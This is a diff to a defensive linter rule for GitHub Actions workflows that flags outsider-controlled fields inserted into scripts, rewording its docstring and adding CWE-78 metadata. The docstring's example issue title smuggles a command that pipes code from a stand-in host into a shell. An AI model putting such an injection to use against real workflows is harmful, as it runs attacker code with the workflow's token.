@@ -20,15 +20,15 @@ _EXPOSED = frozenset(
 _SIZE = 20_000
 
 
-@rule(Severity.ERROR, since="0.1")
+@rule(Severity.ERROR, since="0.1", security=9.3, cwe=78)
 def untrusted_input_in_script(workflow: Workflow) -> Iterator[Finding]:
-    """Text that outsiders write is pasted into a script.
+    """A script contains text that outsiders control.
 
-    GitHub fills in `${{ }}` before the shell reads the script, so an issue titled `"; curl evil.example | sh`
+    GitHub replaces `${{ }}` before the shell reads the script, so an issue titled `"; curl evil.example | sh`
     runs as a command with the workflow's token. Pass the value through `env:` and use the variable, quoted.
 
-    The rule names fields that outsiders control, in workflows that they can start and that have secrets. A
-    commit hash, a number, `matrix` or an outcome is no such field.
+    The rule reports fields that outsiders control, in workflows that they can start and that have secrets. It
+    ignores commit hashes, numbers, `matrix` and outcomes.
 
     ```yaml bad
     on: issues
@@ -57,4 +57,4 @@ def untrusted_input_in_script(workflow: Workflow) -> Iterator[Finding]:
             texts.append((at / "with" / "script", given.get("script")))
         for place, text in texts:
             if isinstance(text, str) and (found := _UNTRUSTED.search(text[:_SIZE])):
-                yield Finding(f"`{found[1]}` is pasted into a script", place)
+                yield Finding(f"`{found[1]}` is inserted into a script", place)
